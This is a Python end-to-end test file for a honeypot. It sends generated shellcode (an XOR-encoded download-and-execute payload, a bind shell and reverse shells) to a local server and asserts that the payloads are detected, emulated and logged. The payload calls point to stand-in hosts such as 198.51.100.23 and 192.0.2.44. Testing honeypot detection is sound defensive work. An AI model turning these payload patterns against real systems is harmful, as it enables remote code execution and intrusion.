"""End to end: shellcode sent to the real server is found, emulated and recorded."""

from __future__ import annotations

import hashlib
import json
import socket
import time

from tests.conftest import only
from tests.unit.shellcode_samples import (
    assemble,
    bind_shell,
    computer_name_url,
    download_exec,
    reverse_shell,
    xor_fnstenv,
)

URL = "http://198.51.100.23/w/payload.exe"


def send(port: int, data: bytes) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(data)
        time.sleep(0.2)


def test_shellcode_over_raw_tcp(honeypot_factory):
    cfg = only({"blackhole": {"tcp_ports": [23], "udp_ports": []}},
               capture={"download": {"enabled": False},
                        # three shellcode connections from one address, back to back
                        "shellcode": {"services": ["blackhole"], "timeout": 5.0,
                                      "max_pending_per_source": 3}})
    hp = honeypot_factory(cfg)
    encoded = xor_fnstenv(assemble(download_exec(URL)))
    bind = assemble(bind_shell(4444))
    send(hp.port(23), b"\x90\x90" + encoded)
    send(hp.port(23), bind)
    send(hp.port(23), assemble(reverse_shell("192.0.2.44", 8081)))
    send(hp.port(23), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")  # nothing to find
    time.sleep(0.5)
    assert hp.stop() == 0  # emulations in flight finish before the sinks close

    conns = [c for (c,) in hp.rows("SELECT connection FROM connections ORDER BY connection")]
    assert len(conns) == 4
    first, second, third, plain = conns
    profiles = hp.rows("SELECT connection, emu_profile_json FROM emu_profiles "
                       "ORDER BY connection")
    assert [c for c, _p in profiles] == [first, second, third]
    calls = [item["call"] for item in json.loads(profiles[0][1])]
    assert calls[:3] == ["LoadLibraryA", "URLDownloadToFileA", "WinExec"]
    assert {"call", "args", "return"} <= set(json.loads(profiles[1][1])[0])
    assert hp.rows("SELECT connection, offer_url FROM offers") == [(first, URL)]
    assert hp.rows("SELECT connection, emu_service_url FROM emu_services ORDER BY "
                   "connection") == [(second, "bindshell://4444"),
                                     (third, "connectbackshell://192.0.2.44:8081")]
    # the shellcode itself is in the store, by md5, with a downloads row
    window = b"\x90\x90" + encoded  # from the start of the chunk the GetPC is in
    md5 = hashlib.md5(window, usedforsecurity=False).hexdigest()
    assert (hp.state / "binaries" / md5).read_bytes() == window
    assert (first, "shellcode://127.0.0.1/0", md5) in hp.rows(
        "SELECT connection, download_url, download_md5_hash FROM downloads")
    assert not hp.rows("SELECT * FROM downloads WHERE connection = ?", plain)
    # what came after the connection's end is a JSON line of its own, marked so
    late = [line for line in hp.json_lines() if line.get("after_end")]
    offers = [line for line in late if line.get("offers")]
    assert offers and offers[0]["offers"] == [URL]
    found = [line["shellcode"] for line in late if "shellcode" in line]
    assert any(s.get("detected") and s["detected"][0]["offset"] == 0 for s in found)
    assert any("URLDownloadToFileA" in [c["call"].split(".")[-1] for c in p]
               for s in found for p in s.get("profiles", []))
    counters = hp.counters()["capture"]["shellcode"]
    assert counters == {"scanned": 4, "detected": 3, "emulated": 3, "dropped": 0,
                        "failed": 0, "killed": 0}


def test_emulated_machine_is_the_persona(honeypot_factory):
    """A URL the shellcode builds from GetComputerNameA names the persona's host."""
    cfg = only({"blackhole": {"tcp_ports": [23], "udp_ports": []}},
               persona={"hostname": "filesrv02"},
               capture={"download": {"enabled": False},
                        "shellcode": {"services": ["blackhole"], "timeout": 5.0}})
    hp = honeypot_factory(cfg)
    send(hp.port(23), xor_fnstenv(assemble(computer_name_url())))
    time.sleep(0.5)
    assert hp.stop() == 0
    assert hp.rows("SELECT offer_url FROM offers") == [("http://FILESRV02",)]


def test_shellcode_in_an_http_request_body(honeypot_factory):
    import http.client

    cfg = only({"http": {"tls_ports": []}},
               capture={"download": {"enabled": False}})
    hp = honeypot_factory(cfg)
    body = b"A" * 64 + assemble(reverse_shell("203.0.113.80", 443))
    client = http.client.HTTPConnection("127.0.0.1", hp.port(80), timeout=5)
    client.request("POST", "/cgi-bin/upload", body=body,
                   headers={"Content-Type": "application/octet-stream"})
    assert client.getresponse().status in (200, 403, 404, 405)
    client.close()
    time.sleep(0.5)
    assert hp.stop() == 0
    [(conn,)] = hp.rows("SELECT connection FROM connections")
    assert hp.rows("SELECT connection, emu_service_url FROM emu_services") == [
        (conn, "connectbackshell://203.0.113.80:443")]
    [(profile,)] = hp.rows("SELECT emu_profile_json FROM emu_profiles")
    assert "connect" in [item["call"] for item in json.loads(profile)]
